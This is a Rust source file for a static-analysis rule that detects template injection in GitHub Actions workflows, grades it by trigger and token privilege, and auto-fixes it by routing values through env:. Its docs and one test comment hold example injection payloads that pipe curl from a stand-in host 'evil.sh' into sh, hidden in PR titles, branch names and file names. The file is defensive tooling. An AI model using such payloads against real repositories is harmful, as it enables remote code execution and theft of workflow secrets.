//! `actions/template-injection`: attacker-controlled `${{ … }}` expanded into the
//! text of a `run:` script or of an action input that is run as code.

use crate::finding::{Edit, Fix, Severity};
use crate::parse::yaml::{ScalarStyle, YamlFile, YamlNode};
use crate::rules::{FileCx, RepoCx, RepoSink, Rule, RuleMeta, Sink};
use crate::workflows::sinks;
use crate::workflows::taint::{Origin, Scope, Taint};
use crate::workflows::wf::{self, Expr, Triggers};

use regex::Regex;
use std::sync::LazyLock;

/// See [`META`].
pub struct TemplateInjection;

/// Metadata and docs.
pub static META: RuleMeta = RuleMeta {
    id: "actions/template-injection",
    summary: "Attacker-controlled `${{ github.event.* }}`, `github.head_ref` or inputs expanded inside `run:`",
    severity: Severity::High,
    docs: r#"
## Why
`${{ … }}` is expanded by the runner *before* the shell sees the script: the
value becomes code. A pull request titled `a"; curl -sSf evil.sh | sh; echo "`
or a branch named `x$(curl${IFS}evil.sh|sh)` runs commands in the job, with
its token and secrets. Issue and comment bodies, PR titles and bodies, commit
messages and author names, head branch names, review bodies, wiki page names
are all chosen by whoever opens the issue or the pull request.

Severity: critical when the workflow runs on an event a stranger can trigger
with a privileged token (`pull_request_target`, `issue_comment`, `issues`,
`discussion`, `pull_request_review*`, `workflow_run`); high otherwise, but
medium when only `pull_request`/`merge_group` start the workflow (a fork's run
has no secrets) or when the job's token is read-only and it reads no secret (the
injected code can do what a fork's run can). A
`workflow_run` workflow that only runs after this repository's own workflows,
themselves started only by pushes, schedules or dispatches, is low: the run's
branch and commit are a writer's (the habit is still worth fixing; it becomes
critical the day the upstream workflow gains a `pull_request` trigger).
`inputs.*` of string type (workflow_dispatch, workflow_call, composite action
inputs) are reported at low: whoever sets them can usually run code anyway, but
the same habit turns into an injection when the input comes from an event. They are
one finding per file (the first expansion, the others related): one habit, one fix.
Boolean, number, choice and environment inputs are not reported. An event field
that none of the workflow's triggers carry (`github.event.workflow_run.*` in a
workflow whose `workflow_run:` trigger is commented out, `github.event.issue.*`
in a push-only one) is always empty and not reported; a reusable workflow
(`workflow_call`) runs with its caller's event, so there every field counts.
`actions/github-script`'s `script:` is checked too (the expansion becomes
JavaScript).

## Example
```yaml
on: issue_comment
jobs:
  triage:
    steps:
      - run: echo "New comment: ${{ github.event.comment.body }}"   # critical
```

## Fix
Pass the value through the environment and quote it; the shell then treats it
as data:
```yaml
      - env:
          COMMENT_BODY: ${{ github.event.comment.body }}
        run: echo "New comment: ${COMMENT_BODY}"
```
For `github.head_ref`, use the variable the runner already sets:
`"${GITHUB_HEAD_REF}"`. In `github-script`, read `process.env.X` or
`context.payload`. `harden fix` makes the env change for bash/sh steps when the
expression is a plain context reference outside single quotes (safe: only the
way the value reaches the shell changes).

## Local reusable workflows and composite actions
An input is only as safe as what its callers pass. When a workflow calls a
local callee (`uses: ./.github/actions/x`, `uses: ./.github/workflows/x.yml`)
with `with: { title: ${{ github.event.issue.title }} }` and the callee pastes
`${{ inputs.title }}` into a `run:` script (or an action input run as code, or
passes it on to another local callee, followed through the chain), the
injection is reported at the caller's `with:` line, graded by the caller's
triggers as above, with the callee's expansion as a related location. The
callee's own `inputs.*` finding stays low: what makes it critical is the
caller. A caller passing a number, a boolean or a maintainer-set value is not
reported. zizmor reads one file at a time and cannot see this.

zizmor's `template-injection` covers the same sinks. harden follows `env.*`,
`matrix.*` and `needs.*.outputs` to where they come from, and grades what it
cannot follow differently:
- `steps.*.outputs.*` (directly or through `env:`, `needs.*.outputs`): the file
  lists of changed-file actions (`tj-actions/changed-files`,
  `dorny/paths-filter`'s `*_files`, `jitterbit/get-changed-files`…) are outsider
  text (a file in a pull request can be named `$(curl evil.sh|sh).md`) and graded
  like a branch name. An output a `run:` step writes as literal text and `${{ … }}`
  (`echo "mode=${{ inputs.mode }}" >> "$GITHUB_OUTPUT"`) is graded by where those
  expressions come from. Any other output is computed by a script or an action
  harden does not read and is not reported: zizmor reports them at
  informational with low confidence, and on the corpus 47 of 49 such findings
  were a version, a path or a branch name a maintainer set (judged in
  `bench/precision/judged.tsv`), nothing a reviewer acts on.
- Label names (`github.event.label.name`, `….labels.*.name`) are reported at
  low: free text, but only people with triage access create and apply labels
  (zizmor: high).

`github.ref` / `github.ref_name` are reported at low on workflows a push of any
branch or tag can start (the pusher already has write access); a `push:`
limited to literally named branches and tags fixes them, so they are not. A value
an earlier step of the same job checks against a regex anchored at both ends and
fails the job on (`env: TAG: ${{ github.ref_name }}`, then
`[[ "$TAG" =~ ^v[0-9]+\.[0-9]+\.[0-9]+$ ]] || exit 1`) has that shape in the later
steps and is not reported there.
User logins (`github.event.comment.user.login`) are not reported: logins are
limited to letters, digits and `-`.

Where zizmor reports and harden shows it is wrong (`zizmor-fp` rows of
bench/zizmor/differences.tsv):
- `github.ref` on `pull_request` is `refs/pull/N/merge`, built by GitHub from
  the pull request number, never the author's branch name (that is
  `github.head_ref`, reported).
- Pull request and issue numbers (`github.event.pull_request.number`,
  `(github.event.pull_request || github.event.issue).number`) are integers.
- `github.repository_owner` is a user or organisation login (letters, digits,
  `-`) set by the owner.
- Expressions over names that are not GitHub contexts (`some.ctx && foo.bar`):
  GitHub rejects the workflow ("Unrecognized named-value"), so nothing runs.
Other maintainer-set contexts are not reported either: `github.base_ref` /
`github.event.pull_request.base.ref` (a pull request can only target a branch
that already exists in the base repository),
`github.event.repository.default_branch` (set by admins), SHAs, run and job ids.
"#,
};

/// Environment variable name for a context reference (`github.event.issue.title` → `ISSUE_TITLE`).
fn env_name(r: &str) -> String {
    let parts: Vec<&str> = r
        .split('.')
        .filter(|p| *p != "*" && *p != "github" && *p != "event")
        .collect();
    let tail = if parts.len() >= 2 {
        &parts[parts.len() - 2..]
    } else {
        &parts[..]
    };
    let mut name: String = tail
        .join("_")
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() {
                c.to_ascii_uppercase()
            } else {
                '_'
            }
        })
        .collect();
    if name.is_empty()
        || name.starts_with(|c: char| c.is_ascii_digit())
        || name.starts_with("GITHUB_")
    {
        name.insert_str(0, "UNTRUSTED_");
    }
    name
}

/// Quote state of the shell text at `pos`: `None` inside single quotes, `Some(true)`
/// inside double quotes, `Some(false)` unquoted. A rough scan, enough to choose the fix.
fn quote_state(script: &str, pos: usize) -> Option<bool> {
    let mut single = false;
    let mut double = false;
    let mut escaped = false;
    for c in script.get(..pos).unwrap_or("").chars() {
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' if !single => escaped = true,
            '\'' if !double => single = !single,
            '"' if !single => double = !double,
            '\n' if !single && !double => {}
            _ => {}
        }
    }
    if single {
        None
    } else {
        Some(double)
    }
}

/// A code sink of a step, with what the fix needs to know.
struct CodeSink<'a> {
    step: &'a YamlNode,
    script: &'a YamlNode,
    is_run: bool,
    bash_like: bool,
    what: String,
}

fn sinks_of<'a>(
    step: &'a YamlNode,
    job: Option<&'a YamlNode>,
    composite: bool,
) -> Vec<CodeSink<'a>> {
    sinks::code_sinks(step)
        .into_iter()
        .map(|s| CodeSink {
            step,
            script: s.script,
            is_run: s.is_run,
            bash_like: s.is_run && bash_like(step, job, composite),
            what: s.what,
        })
        .collect()
}

fn bash_like(step: &YamlNode, job: Option<&YamlNode>, composite: bool) -> bool {
    let windows = job.and_then(|j| j.get("runs-on")).is_some_and(|r| {
        r.strings()
            .iter()
            .any(|s| s.to_ascii_lowercase().contains("windows"))
    });
    let default = job
        .and_then(|j| j.at(&["defaults", "run", "shell"]))
        .and_then(|s| s.as_str());
    match step.get("shell").and_then(|s| s.as_str()).or(default) {
        Some(s) => matches!(s.split_whitespace().next(), Some("bash" | "sh")),
        None => composite || !windows,
    }
}

/// Whether a job runs with a read-only token and no secret of the repository (its
/// `permissions:` grant no write, nothing it or the workflow's `env:` reads names a
/// secret other than `GITHUB_TOKEN`): code injected there can read what the job
/// reads and nothing more, as in a fork's pull request run.
fn harmless_token(root: &YamlNode, job: &YamlNode) -> bool {
    let read_only = match wf::effective_perms(root, job) {
        Some(wf::Perms::ReadAll(_)) => true,
        Some(wf::Perms::Scopes(scopes)) => scopes.iter().all(|p| p.value.as_str() != Some("write")),
        _ => false,
    };
    read_only && !names_secret(job) && !root.get("env").is_some_and(names_secret)
}

/// Whether any string under `node` reads a repository secret (`secrets.X`, X not
/// `GITHUB_TOKEN`) or passes them all on (`secrets: inherit`).
fn names_secret(node: &YamlNode) -> bool {
    let inherits = |n: &YamlNode| n.get("secrets").and_then(|v| v.as_str()) == Some("inherit");
    inherits(node)
        || wf::scalars(node).into_iter().any(|sc| {
            sc.as_scalar().is_some_and(|m| {
                wf::expressions(&m.mapped).iter().any(|e| {
                    e.parsed().is_some_and(|p| {
                        p.contexts().iter().any(|(c, _)| {
                            c == "secrets"
                                || c.strip_prefix("secrets.")
                                    .is_some_and(|n| n != "github_token")
                        })
                    })
                })
            })
        })
}

/// What the workflow's triggers make of an outsider-controlled value.
#[derive(Clone, Copy)]
struct Exposure<'t> {
    /// An outsider can start a privileged run (`pull_request_target`, `issue_comment`…).
    external: Option<&'t str>,
    /// Only `pull_request`/`merge_group`: a fork's run has no secrets and a read-only token.
    unprivileged: bool,
    /// A composite action: the caller's trigger is unknown here.
    composite: bool,
    /// The job's token is read-only and it reads no secret: injected code can do what
    /// a fork's pull request run can.
    harmless: bool,
    /// The workflow's triggers (None in a composite action: the caller's are unknown).
    triggers: Option<&'t Triggers>,
}

/// Who controls an outsider's value when the workflow runs on `trigger`.
fn outsider_who(trigger: &str, gated: bool) -> String {
    if gated {
        format!("on `{trigger}`, once a maintainer applies the gating label, the author of the issue, comment or pull request")
    } else {
        format!("on `{trigger}`, anyone who can open an issue, comment or pull request")
    }
}

/// What a `workflow_run` workflow's event fields are when it only runs after this
/// repository's own push- or dispatch-only workflows.
const AFTER_OWN_PIPELINES: &str = "on `workflow_run` after this repository's own push- or dispatch-only workflows, whoever pushes the branch (someone with write access)";

/// Lowers the injections of `workflow_run` workflows that only run after this
/// repository's own push- or dispatch-only workflows: the per-file pass grades them as
/// outsider-started (it cannot see the other workflows); the model knows the branch and
/// commit of such a run are a writer's. Still reported (low): the habit turns into an
/// injection the day the upstream workflow gains a `pull_request` trigger.
fn settle_after_own_pipelines(
    model: &crate::workflows::model::WorkflowModel,
    findings: &mut [crate::finding::Finding],
) {
    for f in findings.iter_mut() {
        if !model.started_by_insiders(&f.path) {
            continue;
        }
        let mut lowered = false;
        for gated in [false, true] {
            let who = outsider_who("workflow_run", gated);
            if f.message.contains(&who) {
                f.message = f.message.replacen(&who, AFTER_OWN_PIPELINES, 1).into();
                lowered = true;
            }
        }
        if lowered {
            f.severity = Severity::Low;
        }
    }
}

/// The low `inputs.*` expansions of one file are one habit with one fix (pass the inputs
/// through `env:`): one finding per file, the other places related (one problem, one
/// finding). Expansions graded higher (an outsider's value reaching a caller) stay one
/// finding each.
fn group_input_habits(own: &mut Vec<crate::finding::Finding>) {
    let is_habit = |f: &crate::finding::Finding| {
        f.severity == Severity::Low && f.message.starts_with("`${{ inputs.")
    };
    let (mut habits, rest): (Vec<_>, Vec<_>) = own.drain(..).partition(|f| is_habit(f));
    crate::rules::grouping::group_per_file(
        &mut habits,
        |f| {
            let expr = f.message.strip_prefix("`${{ ")?.split(" }}`").next()?;
            Some(format!("`{expr}`"))
        },
        |n, names| {
            format!(
                "{n} `inputs.*` expansions are pasted into scripts of this file before they run ({names}): whoever calls the workflow or action, or dispatches it, controls that code; pass each via `env:` and quote it"
            )
        },
    );
    own.extend(rest);
    own.extend(habits);
    own.sort_by(|a, b| (a.path.as_str(), a.span.start).cmp(&(b.path.as_str(), b.span.start)));
}

/// Severity and who-controls-it for an origin under an exposure.
fn grade(o: &Origin, ex: Exposure<'_>, gated: bool) -> (Severity, String) {
    match o.taint {
        Taint::Untraced | Taint::Triage => (
            Severity::Low,
            "whoever creates and applies labels (someone with triage access)".to_string(),
        ),
        Taint::Writer => (
            Severity::Low,
            if o.source.starts_with("github.ref") {
                "whoever pushes the branch or tag (someone with write access)".to_string()
            } else if o.source.contains("client_payload") {
                "whoever sends the `repository_dispatch` event (a token with write access)"
                    .to_string()
            } else {
                "whoever calls the workflow or action, or dispatches it".to_string()
            },
        ),
        Taint::Outsider => match ex.external {
            Some(t) if gated => (Severity::High, outsider_who(t, true)),
            Some(t) => (Severity::Critical, outsider_who(t, false)),
            None if ex.composite => (
                Severity::High,
                "the author of the issue, pull request or commit the caller runs on".to_string(),
            ),
            None if ex.unprivileged => (
                Severity::Medium,
                "the pull request's author (in a run without secrets when it comes from a fork)"
                    .to_string(),
            ),
            None if ex.harmless => (
                Severity::Medium,
                "the author of the pull request, commit or branch (in a job whose token is read-only and that reads no secret)"
                    .to_string(),
            ),
            None => (
                Severity::High,
                "the author of the pull request, commit or branch".to_string(),
            ),
        },
    }
}

/// `[[ "$TAG" =~ ^v[0-9]+…$ ]]`: a bash test of a variable against a regex anchored at
/// both ends.
static ANCHORED_TEST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"\[\[\s*"?\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?"?\s*=~\s*\^[^\n]*\$\)?\s*\]\]"#)
        .expect("static regex")
});

/// The contexts a step checks against an anchored regex and stops the job on
/// (`env: TAG: ${{ github.ref_name }}` then `[[ "$TAG" =~ ^v[0-9.]+$ ]] || exit 1`): later
/// steps of the job only run with a value of that shape, so pasting it is not an injection.
fn validated_contexts(step: &YamlNode) -> Vec<String> {
    let Some(run) = step.get("run").and_then(|r| r.as_str()) else {
        return Vec::new();
    };
    if !run.contains("=~") || !run.contains("exit") {
        return Vec::new();
    }
    let env: Vec<(String, String)> = step
        .get("env")
        .and_then(|e| e.as_map())
        .into_iter()
        .flatten()
        .filter_map(|p| Some((p.key.clone(), p.value.as_str()?.to_string())))
        .collect();
    let mut out = Vec::new();
    for c in ANCHORED_TEST.captures_iter(run) {
        let Some(var) = c.get(1) else { continue };
        for (name, value) in &env {
            if name != var.as_str() {
                continue;
            }
            let inner = value
                .trim()
                .strip_prefix("${{")
                .and_then(|v| v.strip_suffix("}}"))
                .map(str::trim);
            if let Some(inner) = inner.filter(|i| {
                i.chars()
                    .all(|ch| ch.is_ascii_alphanumeric() || ch == '.' || ch == '_')
            }) {
                out.push(inner.to_string());
            }
        }
    }
    out
}

fn check_sink(
    sink: &CodeSink<'_>,
    scope: &Scope<'_>,
    ex: Exposure<'_>,
    gated: bool,
    validated: &[String],
    text: &str,
    out: &mut Sink<'_>,
) {
    let Some(scalar) = sink.script.as_scalar() else {
        return;
    };
    let exprs = wf::expressions(&scalar.mapped);
    for e in &exprs {
        let Some(parsed) = e.parsed() else { continue };
        let Some((_, origin)) = scope
            .origins(&parsed)
            .into_iter()
            .max_by_key(|(_, o)| o.taint)
        else {
            continue;
        };
        // A value a script or an action computed: nobody can tell from the workflow who
        // chooses it, and judged on real workflows such values were a version, a path or
        // a branch a maintainer set nearly every time; not reported (see the docs).
        if origin.taint == Taint::Untraced {
            continue;
        }
        // An event field no trigger of the workflow carries is always empty
        // (`github.event.workflow_run.*` once the `workflow_run` trigger is commented out).
        if ex.triggers.is_some_and(|t| !t.may_carry(&origin.source)) {
            continue;
        }
        let plain = parsed.context_path();
        if plain
            .as_deref()
            .is_some_and(|p| validated.iter().any(|v| v == p))
        {
            continue;
        }
        let (severity, who) = grade(&origin, ex, gated);
        let (var, declare) = match plain.as_deref() {
            Some("github.head_ref") => ("GITHUB_HEAD_REF".to_string(), false),
            Some(p) if p.starts_with("env.") => (
                origin
                    .via
                    .first()
                    .and_then(|v| v.strip_prefix("env."))
                    .unwrap_or(&p[4..])
                    .to_string(),
                false,
            ),
            Some(p) => (env_name(p), true),
            None => (env_name(&origin.source), true),
        };
        let advice = if sink.is_run {
            format!("pass it via `env:` and use \"${var}\"")
        } else {
            "pass it via `env:` and read it from the environment inside the code".to_string()
        };
        let message = format!(
            "`${{{{ {} }}}}` is pasted into {} before it runs: {who} controls {} and can inject code; {advice}",
            e.inner,
            sink.what,
            origin.describe(),
        );
        let fix = if sink.is_run && sink.bash_like && plain.is_some() {
            env_fix(sink, &exprs, &e.inner, &var, declare, text)
        } else {
            None
        };
        let f = out.report(e.host.clone(), message);
        f.severity = severity;
        f.fix = fix;
    }
}

/// Replaces every `${{ inner }}` of the step's script with `$VAR` and, when `declare`,
/// adds `VAR: ${{ inner }}` to its `env:`.
fn env_fix(
    sc: &CodeSink<'_>,
    exprs: &[Expr],
    inner: &str,
    var: &str,
    declare: bool,
    text: &str,
) -> Option<Fix> {
    let scalar = sc.script.as_scalar()?;
    if !matches!(
        scalar.style,
        ScalarStyle::Literal | ScalarStyle::Plain | ScalarStyle::Folded
    ) {
        return None;
    }
    let script = scalar.as_str();
    let mut edits: Vec<Edit> = Vec::new();
    for e in exprs.iter().filter(|e| e.inner == inner) {
        let quoted = quote_state(script, e.span.start)?;
        let repl = if quoted {
            format!("${{{var}}}")
        } else {
            format!("\"${{{var}}}\"")
        };
        if scalar.style != ScalarStyle::Literal && !quoted {
            // A plain scalar cannot start with `"` safely; keep to the simple cases.
            return None;
        }
        if !scalar.mapped.is_verbatim(&e.span) {
            return None;
        }
        edits.push(Edit {
            range: e.host.clone(),
            replacement: repl,
        });
    }
    if declare {
        edits.push(env_insert(sc.step, var, inner, text)?);
    }
    Some(Fix::safe(
        format!("Pass `{inner}` through env as {var}"),
        edits,
    ))
}

/// Inserts `VAR: ${{ inner }}` into the step's `env:` (a new `env:` before `run:` when there is none).
fn env_insert(step: &YamlNode, var: &str, inner: &str, text: &str) -> Option<Edit> {
    let nl = wf::eol(text);
    let line_start = |at: usize| text[..at].rfind('\n').map_or(0, |i| i + 1);
    match step.pair("env") {
        Some(env) => {
            let first = env.value.as_map()?.first()?;
            if env.value.get(var).is_some() {
                return None;
            }
            let ls = line_start(first.key_span.start);
            let indent = &text[ls..first.key_span.start];
            if !indent.chars().all(|c| c == ' ') {
                return None;
            }
            Some(Edit {
                range: ls..ls,
                replacement: format!("{indent}{var}: ${{{{ {inner} }}}}{nl}"),
            })
        }
        None => {
            let run = step.pair("run")?;
            let ls = line_start(run.key_span.start);
            let prefix = &text[ls..run.key_span.start];
            let indent: String = if prefix.chars().all(|c| c == ' ') {
                prefix.to_string()
            } else if prefix.trim_end().ends_with('-') && prefix.trim_start().starts_with('-') {
                // `- run:` — the env key goes on its own line, before `run:`.
                " ".repeat(prefix.len())
            } else {
                return None;
            };
            if prefix.trim_start().starts_with('-') {
                // Insert after the dash: `- env:\n    VAR: …\n  run:` keeps run in the same item.
                Some(Edit {
                    range: run.key_span.start..run.key_span.start,
                    replacement: format!("env:{nl}{indent}  {var}: ${{{{ {inner} }}}}{nl}{indent}"),
                })
            } else {
                Some(Edit {
                    range: ls..ls,
                    replacement: format!("{indent}env:{nl}{indent}  {var}: ${{{{ {inner} }}}}{nl}"),
                })
            }
        }
    }
}

impl Rule for TemplateInjection {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check_workflow(&self, yaml: &YamlFile, cx: &FileCx<'_>, out: &mut Sink<'_>) {
        for root in wf::roots(yaml) {
            let triggers = Triggers::of(root);
            let ex = Exposure {
                external: triggers.external(),
                unprivileged: triggers.only_unprivileged(),
                composite: false,
                harmless: false,
                triggers: Some(&triggers),
            };
            let scope = Scope::workflow(root).with_weak_origins();
            for job in wf::jobs(root) {
                let js = scope.job(&job.value);
                let ex = Exposure {
                    harmless: harmless_token(root, &job.value),
                    ..ex
                };
                let mut validated: Vec<String> = Vec::new();
                for step in wf::steps(&job.value) {
                    let gated = wf::label_gated(&[Some(&job.value), Some(step)]);
                    let ss = js.step(step);
                    for sink in sinks_of(step, Some(&job.value), false) {
                        check_sink(&sink, &ss, ex, gated, &validated, &cx.file.text, out);
                    }
                    // A step that fails the job unless the value has a fixed shape
                    // guards the steps after it.
                    if step.get("continue-on-error").is_none() {
                        validated.extend(validated_contexts(step));
                    }
                }
            }
        }
    }

    /// Outsider data a workflow passes to a local composite action or reusable
    /// workflow that expands the input into code: reported at the caller, the
    /// callee's expansion related.
    fn finish(&self, repo: &RepoCx<'_>, out: &mut RepoSink<'_>) {
        let mut seen = std::collections::HashSet::new();
        for r in repo.workflows.reaches() {
            let Some(origin) = &r.arg.origin else {
                continue;
            };
            let key = (
                r.arg.at.path.clone(),
                r.arg.at.span.start,
                r.sink.at.path.clone(),
                r.sink.at.span.start,
            );
            if !seen.insert(key) {
                continue;
            }
            let ex = Exposure {
                external: r.call.exposure.external.as_deref(),
                unprivileged: r.call.exposure.unprivileged,
                composite: false,
                harmless: false,
                triggers: None,
            };
            let (severity, who) = grade(origin, ex, r.call.exposure.gated);
            let through = if r.chain.len() > 1 {
                format!(" (through `./{}`)", r.chain[1..].join("`, `./"))
            } else {
                String::new()
            };
            let message = format!(
                "{} is passed as input `{}` to `./{}`{through}, which pastes it into {} at {}:{} before it runs: {who} controls it and can inject code; in the callee, pass the input through `env:`",
                origin.describe(),
                r.arg.input,
                r.chain[0],
                r.sink.what,
                r.sink.at.path,
                r.sink.at.region.start.line,
            );
            let f = out.report(r.arg.at.clone(), r.arg.snippet.clone(), message);
            f.severity = severity;
            f.related.push(r.sink.at.clone());
        }
    }

    fn settles(&self) -> bool {
        true
    }

    fn settle(&self, repo: &RepoCx<'_>, own: &mut Vec<crate::finding::Finding>) {
        settle_after_own_pipelines(repo.workflows, own);
        group_input_habits(own);
    }

    fn check_action(&self, yaml: &YamlFile, cx: &FileCx<'_>, out: &mut Sink<'_>) {
        for root in wf::roots(yaml) {
            let ex = Exposure {
                external: None,
                unprivileged: false,
                composite: true,
                harmless: false,
                triggers: None,
            };
            let scope = Scope::action(root).with_weak_origins();
            let mut validated: Vec<String> = Vec::new();
            for step in wf::action_steps(root) {
                let ss = scope.step(step);
                for sink in sinks_of(step, None, true) {
                    check_sink(&sink, &ss, ex, false, &validated, &cx.file.text, out);
                }
                if step.get("continue-on-error").is_none() {
                    validated.extend(validated_contexts(step));
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn anchored_checks_validate_their_context() {
        let step = crate::parse::yaml::parse(
            "name: Enforce release tag format\nenv:\n  TAG: ${{ github.ref_name }}\nrun: |\n  [[ \"$TAG\" =~ ^v[0-9]+\\.[0-9]+\\.[0-9]+([.-][0-9A-Za-z.-]+)?$ ]] || {\n    echo \"not a release tag\"\n    exit 1\n  }\n",
        );
        let root = step.documents[0].root.as_ref().expect("root");
        assert_eq!(super::validated_contexts(root), vec!["github.ref_name"]);
        // Not anchored at the end: `v1.2.3; curl evil | sh` still matches.
        let loose = crate::parse::yaml::parse(
            "env:\n  TAG: ${{ github.ref_name }}\nrun: '[[ \"$TAG\" =~ ^v[0-9] ]] || exit 1'\n",
        );
        let root = loose.documents[0].root.as_ref().expect("root");
        assert!(super::validated_contexts(root).is_empty());
    }

    #[test]
    fn env_names_and_quotes() {
        assert_eq!(env_name("github.event.issue.title"), "ISSUE_TITLE");
        assert_eq!(env_name("github.event.pull_request.head.ref"), "HEAD_REF");
        assert_eq!(env_name("inputs.version"), "INPUTS_VERSION");
        assert_eq!(quote_state("echo \"a ", 7), Some(true));
        assert_eq!(quote_state("echo 'a ", 7), None);
        assert_eq!(quote_state("echo a ", 6), Some(false));
    }
}
